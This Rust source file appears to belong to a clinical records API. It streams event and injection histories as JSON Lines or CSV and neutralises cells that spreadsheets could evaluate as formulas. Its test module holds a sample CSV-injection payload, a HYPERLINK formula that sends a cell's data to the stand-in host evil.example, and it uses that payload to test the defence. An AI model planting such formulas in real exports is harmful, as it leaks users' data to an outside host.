//! Answers as JSON pages, or streamed as JSON Lines or CSV: rendered row by
//! row from the store while the response is sent, never built in memory.

use axum::{
    body::Body,
    http::{HeaderValue, header},
    response::{IntoResponse, Response},
};
use bytes::Bytes;
use prolo_projector::Store;
use prolo_query::{EventView, InjectionRow, event_view};

use crate::error::ApiError;

/// How an answer is sent.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    /// One JSON document, paginated.
    Json,
    /// JSON Lines, the whole answer, streamed.
    Jsonl,
    /// CSV with a header row, the whole answer, streamed.
    Csv,
}

impl Format {
    /// From the `format` parameter (JSON when absent).
    pub fn parse(value: Option<&str>) -> Result<Format, ApiError> {
        match value {
            None | Some("json") => Ok(Format::Json),
            Some("jsonl") => Ok(Format::Jsonl),
            Some("csv") => Ok(Format::Csv),
            Some(other) => Err(ApiError::BadRequest(format!(
                "format {other:?} is not json, jsonl or csv"
            ))),
        }
    }
}

/// A cell a spreadsheet could take for a formula (it begins with `=`, `+`,
/// `-`, `@`, a tab or a carriage return) gets a leading `'`, so that it is
/// shown as text and never evaluated (OWASP, CSV injection).
pub fn neutralised(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// One CSV line through the `csv` crate (quoting per RFC 4180), every cell
/// neutralised.
fn csv_line<S: AsRef<str>>(fields: &[S]) -> Bytes {
    let mut writer = csv::WriterBuilder::new()
        .has_headers(false)
        .terminator(csv::Terminator::Any(b'\n'))
        .from_writer(Vec::new());
    let cells: Vec<std::borrow::Cow<'_, str>> =
        fields.iter().map(|f| neutralised(f.as_ref())).collect();
    if let Err(e) = writer.write_record(cells.iter().map(|c| c.as_bytes())) {
        tracing::error!(error = %e, "CSV row not written");
    }
    Bytes::from(writer.into_inner().unwrap_or_default())
}

/// The history CSV: the envelope, the clinical facts a reviewer looks for
/// (empty where the event type has none), and the whole payload as JSON.
const EVENT_COLUMNS: &[&str] = &[
    "seq",
    "event_id",
    "event_type",
    "occurred_at",
    "recorded_at",
    "stored_at",
    "clinic_id",
    "patient_id",
    "actor_id",
    "actor_role",
    "source",
    "standing",
    "site",
    "laterality",
    "solution",
    "lots",
    "volume_ml",
    "guidance",
    "practitioner_id",
    "adverse_event_kind",
    "grade",
    "serious",
    "status",
    "outcome",
    "target_event_id",
    "payload",
    "subject",
];

/// A payload field as a cell: text as it is, anything else as JSON, absent as empty.
fn field(payload: &serde_json::Value, path: &[&str]) -> String {
    let value = path.iter().try_fold(payload, |v, key| v.get(key));
    match value {
        None | Some(serde_json::Value::Null) => String::new(),
        Some(serde_json::Value::String(s)) => s.clone(),
        Some(other) => other.to_string(),
    }
}

/// The solution's components (`dextrose 15% + lidocaine 1%`) and their lots.
fn components(payload: &serde_json::Value) -> (String, String) {
    let Some(items) = payload
        .get("solution")
        .and_then(|s| s.get("components"))
        .and_then(|c| c.as_array())
    else {
        return (String::new(), String::new());
    };
    let label = |c: &serde_json::Value| {
        let agent = field(c, &["agent"]);
        match c.get("concentration_pct") {
            Some(pct) if !pct.is_null() => format!("{agent} {pct}%"),
            _ => agent,
        }
    };
    (
        items.iter().map(label).collect::<Vec<_>>().join(" + "),
        items
            .iter()
            .map(|c| field(c, &["lot"]))
            .collect::<Vec<_>>()
            .join(" "),
    )
}

fn event_csv(v: &EventView) -> Bytes {
    let p = &v.payload;
    let (solution, lots) = components(p);
    let lots = if lots.is_empty() {
        field(p, &["lot"])
    } else {
        lots
    };
    csv_line(&[
        v.seq.to_string(),
        v.event_id.to_string(),
        v.event_type.to_owned(),
        v.occurred_at.to_rfc3339(),
        v.recorded_at.to_rfc3339(),
        v.stored_at.to_rfc3339(),
        v.clinic_id.clone(),
        v.patient_id.clone().unwrap_or_default(),
        v.actor.id.clone(),
        prolo_projector::fold::name(&v.actor.role),
        v.source.clone(),
        v.standing.to_owned(),
        field(p, &["site", "site_key"]),
        field(p, &["site", "laterality"]),
        solution,
        lots,
        field(p, &["volume_ml"]),
        field(p, &["guidance"]),
        field(p, &["practitioner_id"]),
        field(p, &["kind"]),
        field(p, &["grade"]),
        field(p, &["serious"]),
        field(p, &["status"]),
        field(p, &["outcome"]),
        [
            field(p, &["target", "event_id"]),
            field(p, &["adverse_event_id"]),
        ]
        .concat(),
        p.to_string(),
        v.subject.clone(),
    ])
}

fn jsonl<T: serde::Serialize>(value: &T) -> Bytes {
    let mut line = serde_json::to_vec(value).unwrap_or_default();
    line.push(b'\n');
    Bytes::from(line)
}

fn streamed(
    content_type: &'static str,
    lines: impl Iterator<Item = Bytes> + Send + 'static,
) -> Response {
    let body = Body::from_stream(futures::stream::iter(lines.map(Ok::<_, std::io::Error>)));
    let mut response = body.into_response();
    response
        .headers_mut()
        .insert(header::CONTENT_TYPE, HeaderValue::from_static(content_type));
    response
}

/// Streams the events at `seqs` as JSON Lines or CSV.
pub fn stream_events(
    store: Store,
    seqs: Vec<u64>,
    as_of: Option<chrono::DateTime<chrono::Utc>>,
    format: Format,
) -> Response {
    let views = seqs
        .into_iter()
        .filter_map(move |seq| match event_view(&store, seq, as_of) {
            Ok(view) => view,
            Err(e) => {
                // Mid-stream the status is sent already: log, and end the row.
                tracing::error!(seq, error = %e, "export row unreadable");
                None
            }
        });
    match format {
        Format::Csv => streamed(
            "text/csv",
            std::iter::once(csv_line(EVENT_COLUMNS)).chain(views.map(|v| event_csv(&v))),
        ),
        _ => streamed("application/x-ndjson", views.map(|v| jsonl(&v))),
    }
}

const INJECTION_COLUMNS: &[&str] = &[
    "seq",
    "event_id",
    "clinic_id",
    "patient_id",
    "site_key",
    "laterality",
    "occurred_at",
    "practitioner_id",
    "solution",
    "lots",
    "volume_ml",
    "guidance",
];

/// Streams injection rows (a lot trace) as JSON Lines or CSV.
pub fn stream_injections(rows: Vec<InjectionRow>, format: Format) -> Response {
    match format {
        Format::Csv => streamed(
            "text/csv",
            std::iter::once(csv_line(INJECTION_COLUMNS)).chain(rows.into_iter().map(|r| {
                csv_line(&[
                    r.seq.to_string(),
                    r.event_id.to_string(),
                    r.clinic_id,
                    r.patient_id,
                    r.site_key,
                    r.laterality.unwrap_or_default(),
                    r.occurred_at.to_rfc3339(),
                    r.practitioner_id,
                    r.solution,
                    r.lots.join(" "),
                    r.volume_ml.to_string(),
                    r.guidance,
                ])
            })),
        ),
        _ => streamed("application/x-ndjson", rows.into_iter().map(|r| jsonl(&r))),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_fields_are_quoted_when_needed_and_formulas_neutralised() {
        let line = |cells: &[&str]| String::from_utf8(csv_line(cells).to_vec()).unwrap_or_default();
        assert_eq!(line(&["plain", "a,b"]), "plain,\"a,b\"\n");
        assert_eq!(line(&["say \"hi\""]), "\"say \"\"hi\"\"\"\n");
        assert_eq!(
            line(&["=HYPERLINK(\"http://evil.example/?\"&B2,\"open\")"]),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&B2,\"\"open\"\")\"\n"
        );
        for dangerous in ["+1", "-1+1", "@SUM(A1)", "\tx", "\rx"] {
            assert!(
                line(&[dangerous]).trim_start_matches('"').starts_with('\''),
                "{dangerous:?}"
            );
        }
        assert_eq!(line(&["P-1042"]), "P-1042\n", "a hyphen inside is harmless");
    }
}
